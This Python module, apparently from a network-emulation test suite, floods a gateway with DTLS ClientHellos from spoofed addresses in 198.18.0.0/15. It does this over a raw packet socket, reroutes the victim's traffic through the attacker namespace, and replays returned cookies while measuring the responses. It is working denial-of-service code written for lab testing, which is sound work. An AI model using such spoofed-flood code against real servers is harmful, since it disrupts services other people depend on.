# SPDX-License-Identifier: GPL-3.0-or-later
# ClientHellos in bulk, from as many source addresses as wanted, in a process of its own (the phones keep theirs). It sees what
# comes back to all of them, and can bring cookies back. Run as a program inside the attacker's namespace; Flood starts it.
import collections
import json
import os
import pathlib
import select
import signal
import socket
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
from lib import dtls_hello # noqa: E402
from lib.attacker import Attacker, datagram # noqa: E402
from lib.process import Process # noqa: E402

CROWD = "198.18.0.0/15" # addresses of nobody; the gateway's way to them leads over the attacker
FIRST = 198 << 24 | 18 << 16


def crowd(number):
	"""The number-th of the crowd: 130,000 hosts."""
	return socket.inet_ntoa(struct.pack("!I", FIRST + 1 + number % 130000)), 20000 + number % 40000


class Flood:
	"""orders: payloads (bytes), targets [(host, port)], rate, count (datagrams sent at least until it stops by itself),
	own (True: all from one address, a port each), cookies (True: brings them back), linger (seconds that it listens after the
	last); victim (namespace, device), the gateway by default; on_link (True: the crowd seems to be in the victim's own network,
	where nobody answers for them)."""

	def __init__(self, topology, payloads, targets, rate, count=10**9, own=False, cookies=False, linger=1.5, victim=None,
		     on_link=False):
		victim = victim or (topology.gw, topology.DEVICE["access"])
		way = ("dev", victim[1], "scope", "link") if on_link else ("via", Attacker.address)
		victim[0].run("ip", "route", "replace", CROWD, *way)
		orders = {"to": Attacker._mac(*victim).hex(), "from": Attacker._mac(topology.attacker, "net0").hex(), "own": own,
			  "cookies": cookies, "payloads": [p.hex() for p in payloads], "targets": targets, "rate": rate,
			  "count": count, "linger": linger}
		reading, writing = os.pipe()
		with os.fdopen(writing, "w") as pipe:
			self.process = Process("flood", topology.attacker.command(sys.executable, __file__, str(reading)),
					       stdin=reading, die_signal=signal.SIGTERM)
			os.close(reading)
			json.dump(orders, pipe)
		self.process.wait_for("^begun")

	def running(self):
		return self.process.alive()

	def result(self, timeout=120):
		"""Waits for its own end."""
		line = self.process.wait_for(r"^\{.*", timeout)[0]
		self.process.wait(10)
		return json.loads(line)

	def stop(self):
		self.process.signal(signal.SIGTERM)
		return self.result(10)

	def __enter__(self):
		return self

	def __exit__(self, *_):
		self.process.kill()


class Sender:
	def __init__(self, orders):
		self.orders = orders
		kind = socket.htons(0x0800)
		self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, kind)
		self.socket.setsockopt(263, 20, 1) # SOL_PACKET, PACKET_QDISC_BYPASS
		self.socket.setsockopt(socket.SOL_SOCKET, 33, 1 << 25) # SO_RCVBUFFORCE
		self.socket.bind(("net0", 0x0800))
		self.socket.setblocking(False)
		self.ether = bytes.fromhex(orders["to"] + orders["from"]) + b"\x08\x00"
		self.payloads = [bytes.fromhex(p) for p in orders["payloads"]]
		self.targets = [tuple(target) for target in orders["targets"]]
		self.gateways = {socket.inet_aton(host) for host, _ in self.targets}
		self.sent = self.sent_bytes = self.got = self.got_bytes = self.alerts = self.proven = self.cookies = 0
		self.flights = {} # source -> times of what came after its cookie was back
		self.to_one = collections.Counter()
		self.stopping = False

	def source(self, number):
		return (Attacker.address, 1024 + number % 60000) if self.orders["own"] else crowd(number)

	def send(self, source, target, payload):
		try:
			self.socket.send(self.ether + datagram(source, target, payload))
		except (BlockingIOError, OSError):
			return # the device is behind: one less
		self.sent += 1
		self.sent_bytes += len(payload)

	def receive(self):
		for _ in range(256):
			try:
				frame = self.socket.recv(4096)
			except BlockingIOError:
				return
			if len(frame) < 55 or frame[23] != 17 or frame[26:30] not in self.gateways:
				continue
			source_port, port, size = struct.unpack_from("!HHH", frame, 34)
			if source_port == 5060 or frame[30] not in (198, 10):
				continue
			peer = (socket.inet_ntoa(frame[30:34]), port)
			self.take(peer, (socket.inet_ntoa(frame[26:30]), source_port), frame[42:34 + size])

	def take(self, peer, gateway, payload):
		self.got += 1
		self.got_bytes += len(payload)
		self.alerts += payload[0] == 21
		self.to_one[peer] += 1
		if peer in self.flights:
			self.flights[peer].append(round(time.monotonic() - self.began, 3))
		cookie = dtls_hello.cookie_of(payload)
		if cookie is None:
			return
		self.cookies += 1
		if self.orders["cookies"] and peer not in self.flights:
			self.flights[peer] = []
			self.proven += 1
			self.send(peer, gateway, dtls_hello.with_cookie(self.payloads[0], cookie))

	def run(self):
		self.began = time.monotonic()
		print("begun", flush=True)
		count, rate, number = self.orders["count"], self.orders["rate"], 0
		while not self.stopping and number < count:
			due = min(count, int((time.monotonic() - self.began) * rate))
			while number < due:
				self.send(self.source(number), self.targets[number % len(self.targets)],
					  self.payloads[number % len(self.payloads)])
				number += 1
				if number % 32 == 0:
					self.receive()
			select.select([self.socket], [], [], 0.002)
			self.receive()
		self.listen(time.monotonic() + self.orders["linger"])

	def listen(self, until):
		while time.monotonic() < until:
			select.select([self.socket], [], [], 0.05)
			self.receive()

	def result(self):
		late = {f"{peer[0]}:{peer[1]}": times for peer, times in self.flights.items() if times and times[-1] - times[0] > 0.15}
		return {"sent": self.sent, "sent_bytes": self.sent_bytes, "got": self.got, "got_bytes": self.got_bytes,
			"alerts": self.alerts, "cookies": self.cookies, "proven": self.proven,
			"most_to_one": max(self.to_one.values(), default=0), "retransmitted_to": late,
			"answered": sum(1 for times in self.flights.values() if times),
			"seconds": round(time.monotonic() - self.began, 3)}


def main():
	sender = Sender(json.load(sys.stdin))

	def stop(_signal, _frame):
		sender.stopping = True

	signal.signal(signal.SIGTERM, stop)
	sender.run()
	print(json.dumps(sender.result()), flush=True)


if __name__ == "__main__":
	main()
